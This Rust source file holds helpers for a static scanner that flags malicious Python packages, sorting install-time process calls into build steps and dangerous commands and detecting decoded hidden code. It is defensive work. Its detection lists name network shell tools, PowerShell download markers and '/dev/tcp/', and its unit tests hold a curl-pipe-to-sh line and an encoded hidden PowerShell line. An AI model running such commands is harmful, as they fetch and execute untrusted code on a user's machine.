//! Helpers shared by the Python rules: what a process call runs, whether that
//! command is an ordinary build step or a dangerous one, and which functions of
//! a file run by themselves because module-level code calls them.

use std::collections::HashSet;

use ossprey_static::analysis::FileAnalysis;
use ossprey_static::facts::{Arg, Call, Language, SourceFacts, shell};

use crate::Input;

/// Python files a parser read, with their facts.
pub(crate) fn python_sources<'a>(
    input: &Input<'a>,
) -> impl Iterator<Item = (&'a FileAnalysis, &'a SourceFacts)> {
    input
        .sources()
        .filter(|(f, _)| f.language == Some(Language::Python))
}

/// Calls whose function-name arguments run without an explicit call.
const RUNS_ITS_ARGUMENT: &[&str] = &[
    "threading.Thread",
    "threading.Timer",
    "atexit.register",
    "multiprocessing.Process",
    "signal.signal",
    "sys.settrace",
];

/// Which code of a file runs by itself when the file runs.
#[derive(Debug, Default)]
pub(crate) struct Liveness {
    /// Module-level functions that module-level code calls (a few hops).
    pub(crate) live: HashSet<String>,
    /// First line of an `if __name__ == "__main__":` block, whose body only
    /// runs when the file is a script, not when it is imported or installed.
    pub(crate) main_guard: Option<u32>,
}

impl Liveness {
    /// Works out liveness for one file; `also_called` names functions other
    /// files call at their top level (`from helper import run; run()`).
    pub(crate) fn of(
        file: &FileAnalysis,
        source: &SourceFacts,
        input: &Input<'_>,
        also_called: &HashSet<String>,
    ) -> Self {
        // `setup.py` is itself run as `__main__`.
        let script = file.path.ends_with("setup.py") || file.path.ends_with(".pth");
        let main_guard = input
            .files
            .content(&file.path)
            .filter(|_| !script)
            // Every Python rule asks this of every file: a byte search for the
            // rare prefix instead of decoding and walking each line. Invalid
            // UTF-8 never turns into or out of these ASCII words, so this finds
            // what a walk over `from_utf8_lossy(..).lines()` would.
            .and_then(|bytes| {
                crate::input::first_line_starting(bytes, b"if __name__", b"__main__")
            });
        let defined: HashSet<&str> = source.definitions.iter().map(String::as_str).collect();
        let mut this = Self {
            live: HashSet::new(),
            main_guard,
        };
        for name in also_called {
            if defined.contains(name.as_str()) {
                this.live.insert(name.clone());
            }
        }
        for _ in 0..4 {
            let mut added = false;
            for call in &source.calls {
                if !this.runs(call) {
                    continue;
                }
                let mut targets: Vec<&str> = vec![call.callee.as_str()];
                if RUNS_ITS_ARGUMENT.contains(&call.callee.as_str()) {
                    for arg in call.args.iter().chain(call.kwargs.iter().map(|(_, a)| a)) {
                        if let Arg::Name(n) = arg {
                            targets.push(n.as_str());
                        }
                    }
                }
                for t in targets {
                    if defined.contains(t) && !this.live.contains(t) {
                        this.live.insert(t.to_owned());
                        added = true;
                    }
                }
            }
            if !added {
                break;
            }
        }
        this
    }

    /// Whether `call` runs when the file runs: at module level (outside a
    /// `__main__` block), or directly in a module-level function that such
    /// code calls. Methods and nested functions run only when called.
    pub(crate) fn runs(&self, call: &Call) -> bool {
        if self.main_guard.is_some_and(|g| call.line > g) {
            return false;
        }
        match &call.scope {
            None => true,
            Some(s) => !s.contains('.') && self.live.contains(s.as_str()),
        }
    }
}

/// Whether `scope` is a class method (`PostInstall.run`): in an install-time file,
/// that is a `cmdclass` command, which setup.py runs at install.
pub(crate) fn in_method(scope: Option<&str>) -> bool {
    scope.is_some_and(|s| s.contains('.'))
}

/// A call inside a class method of an install-time file (a `cmdclass` `run`).
pub(crate) fn in_install_method(file: &FileAnalysis, call: &Call) -> bool {
    file.runs_at == ossprey_static::analysis::RunsAt::Install && in_method(call.scope.as_deref())
}

/// Names of functions install-time files call at their top level or in
/// `cmdclass` methods: a function of that name in another install-time file
/// (imported by `setup.py`) runs at install.
pub(crate) fn called_from_install(input: &Input<'_>) -> HashSet<String> {
    let mut out = HashSet::new();
    for (file, source) in python_sources(input) {
        if file.runs_at != ossprey_static::analysis::RunsAt::Install {
            continue;
        }
        for call in &source.calls {
            let method = in_method(call.scope.as_deref());
            if call.scope.is_none() || method {
                let last = call.callee.rsplit('.').next().unwrap_or(&call.callee);
                if !last.is_empty() && last != "?" {
                    out.insert(last.to_owned());
                }
            }
        }
    }
    out
}

/// The outermost function or class of a scope (`PostInstall.run` → `PostInstall`).
pub(crate) fn root_of(scope: &str) -> &str {
    scope.split('.').next().unwrap_or(scope)
}

/// Whether the `if` that encloses `line` (by indentation) tests `sys.argv`:
/// `if sys.argv[-1] == "publish": os.system("twine upload dist/*")` is a
/// maintainer's release helper, not install-time behaviour.
pub(crate) fn guarded_by_argv(text: &str, line: u32) -> bool {
    let lines: Vec<&str> = text.lines().collect();
    let Some(idx) = usize::try_from(line).ok().and_then(|l| l.checked_sub(1)) else {
        return false;
    };
    let Some(at) = lines.get(idx) else {
        return false;
    };
    let mut indent = at.len() - at.trim_start().len();
    for l in lines[..idx].iter().rev() {
        let t = l.trim_start();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        let i = l.len() - t.len();
        if i < indent {
            if (t.starts_with("if ") || t.starts_with("elif ")) && t.contains("sys.argv") {
                return true;
            }
            indent = i;
            if i == 0 {
                break;
            }
        }
    }
    false
}

/// Whether a path looks like test code, which nothing runs on install or import.
pub(crate) fn is_test_path(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    lower.contains("/tests/")
        || lower.contains("/test/")
        || lower.contains("/testing/")
        || lower.ends_with("/conftest.py")
        || lower
            .rsplit('/')
            .next()
            .is_some_and(|f| f.starts_with("test_"))
}

/// What a process-execution call runs, as far as it can be read.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum CommandText {
    /// Every part is a literal.
    Literal(String),
    /// Some parts are literal (`[sys.executable, "-m", "pip"]`, `'start ' + name`).
    Partial(String),
    /// Nothing literal is visible.
    Dynamic,
}

impl CommandText {
    pub(crate) fn text(&self) -> Option<&str> {
        match self {
            CommandText::Literal(s) | CommandText::Partial(s) => Some(s),
            CommandText::Dynamic => None,
        }
    }
}

/// The command a process call runs: its first argument (or `args=`).
pub(crate) fn command_of(call: &Call) -> CommandText {
    let arg = call.args.first().or_else(|| {
        call.kwargs
            .iter()
            .find(|(k, _)| k == "args")
            .map(|(_, a)| a)
    });
    match arg {
        Some(Arg::Str(s)) => CommandText::Literal(s.clone()),
        Some(Arg::List(items)) => {
            let mut all = true;
            let words: Vec<String> = items
                .iter()
                .map(|a| match a {
                    Arg::Str(s) => s.clone(),
                    Arg::Name(n) if n == "sys.executable" => "python".to_owned(),
                    _ => {
                        all = false;
                        "$X".to_owned()
                    }
                })
                .collect();
            let text = words.join(" ");
            if all {
                CommandText::Literal(text)
            } else if words.iter().any(|w| w != "$X") {
                CommandText::Partial(text)
            } else {
                CommandText::Dynamic
            }
        }
        _ => match leading_literal(&call.snippet) {
            Some(s) => CommandText::Partial(s),
            None => CommandText::Dynamic,
        },
    }
}

/// The literal text an argument starts with, read from a call's snippet:
/// `os.system('start ' + name)` → `start `, `check_call(['cmake', d] + args)` → `cmake`.
pub(crate) fn leading_literal(snippet: &str) -> Option<String> {
    let open = snippet.find('(')?;
    let rest = snippet[open + 1..].trim_start();
    let rest = rest.trim_start_matches(['[', '(', ' ']);
    let rest = rest.trim_start_matches(['f', 'r', 'b', 'u', 'F', 'R', 'B', 'U']);
    let quote = rest.chars().next().filter(|c| *c == '"' || *c == '\'')?;
    let body = &rest[1..];
    let end = body.find(quote)?;
    let text = &body[..end];
    (!text.trim().is_empty()).then(|| text.to_owned())
}

/// How a command line looks.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum CommandKind {
    /// A compiler, build system, VCS query or packaging tool.
    Build,
    /// Something malware does: download, pipe into a shell, encoded PowerShell, …
    Dangerous(String),
    /// Anything else.
    Other,
}

/// Programs benign `setup.py` files run to build or describe the package.
const BUILD_PROGRAMS: &[&str] = &[
    "make",
    "gmake",
    "nmake",
    "cmake",
    "ninja",
    "meson",
    "scons",
    "git",
    "hg",
    "svn",
    "pkg-config",
    "pkgconf",
    "gcc",
    "g++",
    "cc",
    "c++",
    "clang",
    "clang++",
    "gfortran",
    "f2py",
    "nvcc",
    "hipcc",
    "icc",
    "icpc",
    "cl",
    "link",
    "ar",
    "ranlib",
    "ld",
    "swig",
    "cython",
    "protoc",
    "flatc",
    "autoreconf",
    "autoconf",
    "automake",
    "autogen.sh",
    "configure",
    "./configure",
    "libtool",
    "cargo",
    "rustc",
    "rustup",
    "maturin",
    "go",
    "npm",
    "yarn",
    "pnpm",
    "npx",
    "jlpm",
    "node",
    "javac",
    "mvn",
    "gradle",
    "ant",
    "xcrun",
    "xcodebuild",
    "xcode-select",
    "lipo",
    "install_name_tool",
    "otool",
    "patchelf",
    "strip",
    "which",
    "uname",
    "sw_vers",
    "lsb_release",
    "ldconfig",
    "nproc",
    "sysctl",
    "nvidia-smi",
    "llvm-config",
    "python-config",
    "python3-config",
    "brew",
    "msbuild",
    "devenv",
    "vcvarsall.bat",
    "bazel",
    "qmake",
    "moc",
    "rcc",
    "pyrcc5",
    "pyuic5",
    "sphinx-build",
    "pandoc",
    "tar",
    "unzip",
    "cp",
    "mkdir",
    "rm",
    "mv",
    "ln",
    "echo",
    "true",
    "env",
    "twine",
    "coverage",
    "pytest",
    "tox",
    "nox",
    "flake8",
    "doxygen",
    "docker",
    "bison",
    "flex",
    "yacc",
    "pgen",
    "patch",
    "du",
    "ls",
    "find",
];

/// Windows and Unix tools malware leans on; a package build has no use for them.
const ABUSED_PROGRAMS: &[&str] = &[
    "powershell",
    "pwsh",
    "mshta",
    "certutil",
    "bitsadmin",
    "regsvr32",
    "rundll32",
    "wscript",
    "cscript",
    "schtasks",
    "reg",
    "attrib",
    "wmic",
    "netsh",
    "taskkill",
    "vssadmin",
    "icacls",
    "start",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "curl",
    "wget",
    "crontab",
    "nohup",
    "setsid",
    "xdg-open",
];

/// The program name of a command word: no directory, no `.exe`, lowercase.
pub(crate) fn program_name(word: &str) -> String {
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let lower = base.to_ascii_lowercase();
    lower
        .strip_suffix(".exe")
        .map(str::to_owned)
        .unwrap_or(lower)
}

/// Classifies what a process call runs, from its callee and arguments: a
/// command decoded at run time or an interactive shell is dangerous whatever
/// its text; otherwise the command line decides.
pub(crate) fn classify_call(call: &Call) -> Option<CommandKind> {
    if call.callee == "pty.spawn" {
        return Some(CommandKind::Dangerous("spawns an interactive shell".into()));
    }
    let detached = call.kwargs.iter().any(|(k, v)| match (k.as_str(), v) {
        ("creationflags", _) => {
            let s = call.snippet.to_ascii_uppercase();
            s.contains("DETACHED_PROCESS") || s.contains("CREATE_NO_WINDOW")
        }
        ("preexec_fn", Arg::Name(n)) => matches!(n.as_str(), "os.setpgrp" | "os.setsid"),
        ("start_new_session", Arg::Const(c)) => c == "True",
        _ => false,
    });
    if detached {
        return Some(CommandKind::Dangerous(
            "starts a detached background process".into(),
        ));
    }
    if let Some(decoder) = call
        .args
        .first()
        .map(Arg::nested_callees)
        .unwrap_or_default()
        .into_iter()
        .find(|c| is_strong_decoder(c))
    {
        return Some(CommandKind::Dangerous(format!(
            "runs a command decoded by `{decoder}`"
        )));
    }
    command_of(call).text().map(classify_command)
}

/// A local helper that decodes, passed as the command: `os.system(b64d("…"))`
/// where `def b64d(s): return base64.b64decode(s).decode()`.
pub(crate) fn decoded_by_local_helper(call: &Call, source: &SourceFacts) -> Option<String> {
    let Some(Arg::Call { callee, .. }) = call.args.first() else {
        return None;
    };
    if !source.definitions.iter().any(|d| d == callee) {
        return None;
    }
    source
        .calls
        .iter()
        .find(|c| c.scope.as_deref() == Some(callee.as_str()) && is_strong_decoder(&c.callee))
        .map(|d| format!("runs a command decoded by `{callee}` (`{}`)", d.callee))
}

/// Classifies a command line (literal or partly literal).
pub(crate) fn classify_command(text: &str) -> CommandKind {
    let facts = shell::parse(text);
    if facts.reverse_shell {
        return CommandKind::Dangerous("opens a reverse shell".into());
    }
    if facts.pipes_into_interpreter {
        return CommandKind::Dangerous("pipes downloaded content into an interpreter".into());
    }
    if let Some(d) = facts.downloads.first() {
        return CommandKind::Dangerous(format!("downloads with `{}`", d.tool));
    }
    if facts.base64_decode {
        return CommandKind::Dangerous("decodes base64 in the shell".into());
    }
    let lower = text.to_ascii_lowercase();
    for marker in [
        "/dev/tcp/",
        "-encodedcommand",
        " -enc ",
        " -e jab",
        "downloadstring",
        "downloadfile",
        "invoke-webrequest",
        "invoke-expression",
        "iex(",
        "frombase64string",
        "-windowstyle hidden",
        "-w hidden",
    ] {
        if lower.contains(marker) {
            return CommandKind::Dangerous(format!("contains `{}`", marker.trim()));
        }
    }
    let mut programs: Vec<String> = Vec::new();
    for c in &facts.commands {
        let Some(first) = c.argv.first() else {
            continue;
        };
        let mut name = program_name(first);
        // `cmd /c x`, `sh -c x`: the program that matters comes after.
        if matches!(name.as_str(), "cmd" | "sudo")
            && let Some(next) = c.argv.iter().skip(1).find(|a| !a.starts_with(['/', '-']))
        {
            name = program_name(next);
        }
        // `bash build.sh`, `./autogen.sh`: the package's own build script.
        let local_script = |w: &str| {
            !w.starts_with('-') && !w.contains("://") && !w.contains('$') && !w.starts_with('/')
        };
        if matches!(name.as_str(), "sh" | "bash" | "zsh" | "dash")
            && c.argv.iter().skip(1).any(|a| a == "-i")
        {
            return CommandKind::Dangerous("starts an interactive shell".into());
        }
        if matches!(name.as_str(), "sh" | "bash") && c.argv.get(1).is_some_and(|a| local_script(a))
            || name.ends_with(".sh") && local_script(first)
        {
            programs.push("make".to_owned());
            continue;
        }
        if ABUSED_PROGRAMS.contains(&name.as_str()) {
            return CommandKind::Dangerous(format!("runs `{name}`"));
        }
        if name.ends_with(".exe") || first.to_ascii_lowercase().ends_with(".exe") {
            return CommandKind::Dangerous(format!("runs a Windows executable `{first}`"));
        }
        if (name.ends_with(".bat") || name.ends_with(".vbs") || name.ends_with(".ps1"))
            && name != "vcvarsall.bat"
        {
            return CommandKind::Dangerous(format!("runs a script `{first}`"));
        }
        programs.push(name);
    }
    // `gdb --version`, `cc -v`: probing which tools exist.
    let probe = facts.commands.len() == 1
        && facts.commands[0].argv.len() == 2
        && matches!(
            facts.commands[0].argv[1].as_str(),
            "--version" | "-v" | "-V" | "version" | "--help"
        );
    if probe {
        return CommandKind::Build;
    }
    let has_url = lower.contains("http://") || lower.contains("https://");
    let vcs_or_pip = programs.iter().any(|p| {
        matches!(p.as_str(), "git" | "hg" | "svn" | "pip" | "pip3")
            || p.starts_with("python")
            || p == "npm"
    });
    if has_url && !vcs_or_pip {
        return CommandKind::Dangerous("fetches a URL".into());
    }
    if facts.daemonises && !programs.is_empty() {
        return CommandKind::Dangerous("runs a command in the background".into());
    }
    if !programs.is_empty()
        && programs
            .iter()
            .all(|p| BUILD_PROGRAMS.contains(&p.as_str()) || is_build_python(text, p))
    {
        return CommandKind::Build;
    }
    CommandKind::Other
}

/// `python setup.py build_ext`, `python -m build`, `python -c "import numpy…"` and
/// the like run by build scripts.
fn is_build_python(text: &str, program: &str) -> bool {
    (program.starts_with("python") || program == "py")
        && [
            "setup.py",
            "-m build",
            "-m pip wheel",
            "sysconfig",
            "numpy",
            "build_ext",
        ]
        .iter()
        .any(|m| text.contains(m))
}

/// Text markers in a call that say what it does even when the arguments are not
/// literal (`os.system('start ' + name)` keeps `'start '` in its snippet).
pub(crate) fn dangerous_in_snippet(snippet: &str) -> Option<&'static str> {
    let lower = snippet.to_ascii_lowercase();
    [
        ("powershell", "powershell"),
        ("'start ", "`start`"),
        ("\"start ", "`start`"),
        (".exe'", "a Windows executable"),
        (".exe\"", "a Windows executable"),
        (".exe ", "a Windows executable"),
        ("/dev/tcp", "/dev/tcp"),
        ("mshta", "mshta"),
        ("certutil", "certutil"),
        ("bitsadmin", "bitsadmin"),
        ("curl ", "curl"),
        ("wget ", "wget"),
        ("base64 -d", "base64 -d"),
        ("http://", "a URL"),
        ("https://", "a URL"),
    ]
    .into_iter()
    .find(|(m, _)| lower.contains(m))
    .map(|(_, what)| what)
}

/// Calls that read who or where the machine is: the data install-time beacons send.
pub(crate) const HOST_INFO: &[&str] = &[
    "socket.gethostname",
    "socket.getfqdn",
    "platform.node",
    "platform.uname",
    "platform.platform",
    "os.uname",
    "getpass.getuser",
    "os.getlogin",
    "os.getcwd",
    "os.environ",
    "os.getenv",
    "os.environ.get",
    "uuid.getnode",
];

/// Calls that send data rather than only fetch.
pub(crate) const SENDS: &[&str] = &[
    "requests.post",
    "requests.put",
    "httpx.post",
    "?.sendall",
    "?.send",
    "?.sendto",
    "?.post",
];

/// Python's own process-execution entry points beyond the shared table.
pub(crate) fn is_process_exec(callee: &str) -> bool {
    // `pip.main([...])` installs (and so runs) other packages' code.
    matches!(
        callee,
        "pip.main" | "pip._internal.main" | "pip._internal.cli.main.main"
    ) || crate::rules::catalog::is(crate::rules::catalog::PROCESS_EXEC, callee)
        && !callee.contains("child_process")
}

/// Python code-evaluation builtins.
pub(crate) fn is_code_eval(callee: &str) -> bool {
    matches!(callee, "exec" | "eval" | "compile" | "execfile")
}

/// Python network entry points.
pub(crate) fn is_network(callee: &str) -> bool {
    crate::rules::catalog::is(crate::rules::catalog::NETWORK, callee)
        && (callee.contains('.') && !is_js_network(callee))
}

fn is_js_network(callee: &str) -> bool {
    matches!(
        callee,
        "http.get"
            | "http.request"
            | "https.get"
            | "https.request"
            | "net.connect"
            | "net.createConnection"
            | "net.Socket"
            | "tls.connect"
            | "dgram.createSocket"
            | "dns.lookup"
            | "dns.resolve"
            | "dns.resolve4"
            | "dns.resolveTxt"
            | "dns.promises.lookup"
            | "dns.promises.resolve"
            | "axios.get"
            | "axios.post"
            | "axios.request"
            | "got.post"
            | "request.post"
            | "request.get"
    )
}

/// Whether an argument is (or contains) a local file read: `open(p).read()`,
/// `f.read()`, `Path(p).read_text()`, `compile(open(p).read(), p, 'exec')`.
pub(crate) fn is_local_read(arg: &Arg, snippet: &str) -> bool {
    let callees = arg.nested_callees();
    let reads = callees.iter().any(|c| {
        matches!(
            *c,
            "?.read" | "?.read_text" | "?.readlines" | "open" | "io.open" | "codecs.open"
        )
    });
    let network = callees.iter().any(|c| is_network(c));
    reads && !network && !snippet.contains("urlopen") && !snippet.contains("requests.")
}

/// Decoders that only ever turn hidden data back into code or bytes (not the
/// generic `?.join`/`?.decode` the shared table also lists).
pub(crate) fn is_strong_decoder(callee: &str) -> bool {
    callee.starts_with("base64.")
        || callee.starts_with("binascii.")
        || matches!(
            callee,
            "zlib.decompress"
                | "gzip.decompress"
                | "bz2.decompress"
                | "lzma.decompress"
                | "marshal.loads"
                | "pickle.loads"
                | "codecs.decode"
                | "bytes.fromhex"
                | "bytearray.fromhex"
                | "?.decrypt"
                | "?.b64decode"
                | "?.decompress"
        )
}

/// Why the code a Python `exec`/`eval`/`compile` runs is hidden, for the shapes
/// the decode-chain rule does not see: reversed strings, decryption, byte
/// lists, a local lambda that decodes, a variable decoded just before,
/// `map(chr, [...])`, a substitution over a literal, XOR-decoded characters.
pub(crate) fn hidden_code(call: &Call, source: &SourceFacts) -> Option<String> {
    use crate::rules::catalog::{DECODE, is};
    let arg = call.args.first()?;
    let nested = arg.nested_callees();
    let arg_text = call.snippet.split_once('(').map_or("", |(_, rest)| rest);
    // Shapes the shared decode table lists only by their generic `join`:
    // character codes mapped through `chr`, and a literal rewritten
    // character by character (a substitution cipher).
    if nested.contains(&"map") && arg_text.contains("map(chr") {
        return Some("character codes mapped through `chr`".into());
    }
    if nested.first() == Some(&"?.join")
        && arg_text.contains(" for ")
        && (arg_text.contains(" in \"") || arg_text.contains(" in '"))
    {
        return Some("a literal rewritten character by character".into());
    }
    // `eval(compile(code, "<string>", "exec"))`: what matters is `code`.
    let arg = match arg {
        Arg::Call { callee, args } if callee == "compile" => args.first().unwrap_or(arg),
        _ => arg,
    };
    if let Arg::Name(name) = arg
        && !name.contains('.')
        && let Some(x) = source.calls.iter().find(|c| {
            c.scope == call.scope
                && c.line <= call.line
                && call.line - c.line <= 30
                && c.callee == "chr"
                && c.snippet.contains("ord(")
                && c.snippet.contains('^')
        })
    {
        return Some(format!(
            "characters XOR-decoded at line {} into `{name}`",
            x.line
        ));
    }
    if nested.iter().any(|c| is(DECODE, c)) {
        return None;
    }
    if arg_text.contains("[::-1]") {
        return Some("a reversed string".into());
    }
    if let Some(c) = nested.iter().find(|c| {
        matches!(
            **c,
            "?.decrypt"
                | "Fernet"
                | "cryptography.fernet.Fernet"
                | "bytes"
                | "bytearray"
                | "?.translate"
                | "?.swapcase"
                | "?.b64decode"
                | "?.decompress"
        )
    }) {
        return Some(format!("`{c}`"));
    }
    if let Arg::Call { callee, .. } = arg
        && !callee.contains('.')
        && !matches!(
            callee.as_str(),
            "compile" | "open" | "str" | "repr" | "format" | "input" | "getattr"
        )
    {
        let lambda_decodes = source.calls.iter().any(|c| {
            c.scope.as_deref().is_some_and(|s| s.ends_with("<lambda>"))
                && (is_strong_decoder(&c.callee) || c.snippet.contains("[::-1]"))
        });
        if lambda_decodes {
            return Some(format!("the local decoder `{callee}`"));
        }
    }
    if let Arg::Name(name) = arg
        && !name.contains('.')
    {
        let decoded_before = source.calls.iter().find(|c| {
            c.scope == call.scope
                && c.line <= call.line
                && call.line - c.line <= 15
                && is_strong_decoder(&c.callee)
        });
        if let Some(d) = decoded_before {
            return Some(format!("`{}` (line {}) into `{name}`", d.callee, d.line));
        }
    }
    None
}

/// Decodes standard or URL-safe base64, ignoring whitespace; `None` when the
/// text is not base64. Bounded: at most 64 KiB of input is read.
pub(crate) fn base64_decode(text: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(text.len() * 3 / 4);
    let mut acc: u32 = 0;
    let mut bits = 0u32;
    for b in text.bytes().take(64 * 1024) {
        let v = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            b'=' => break,
            b' ' | b'\n' | b'\r' | b'\t' => continue,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push(((acc >> bits) & 0xff) as u8);
        }
    }
    Some(out)
}

/// The command text of a process call, also when it is a base64 literal
/// decoded in place (`os.system(b64decode("Y3VybCAuLi4="))`).
pub(crate) fn command_or_decoded(call: &Call) -> Option<String> {
    if let Some(t) = command_of(call).text() {
        return Some(t.to_owned());
    }
    let Some(Arg::Call { callee, args }) = call.args.first() else {
        return None;
    };
    if !callee.ends_with("b64decode") {
        return None;
    }
    let Some(Arg::Str(s)) = args.first() else {
        return None;
    };
    let bytes = base64_decode(s)?;
    String::from_utf8(bytes).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classifies_commands() {
        assert_eq!(classify_command("make -j4"), CommandKind::Build);
        assert_eq!(classify_command("git describe --tags"), CommandKind::Build);
        assert!(matches!(
            classify_command("curl -s http://x.invalid/a | sh"),
            CommandKind::Dangerous(_)
        ));
        assert!(matches!(
            classify_command("powershell -WindowStyle Hidden -EncodedCommand AAAA"),
            CommandKind::Dangerous(_)
        ));
        assert!(matches!(
            classify_command("start x.exe"),
            CommandKind::Dangerous(_)
        ));
        assert_eq!(classify_command("pip install numpy"), CommandKind::Other);
    }

    #[test]
    fn reads_leading_literals() {
        assert_eq!(
            leading_literal("os.system('start ' + name)").as_deref(),
            Some("start ")
        );
        assert_eq!(
            leading_literal("subprocess.check_call(['cmake', d] + a)").as_deref(),
            Some("cmake")
        );
        assert_eq!(leading_literal("os.system(cmd)"), None);
    }
}
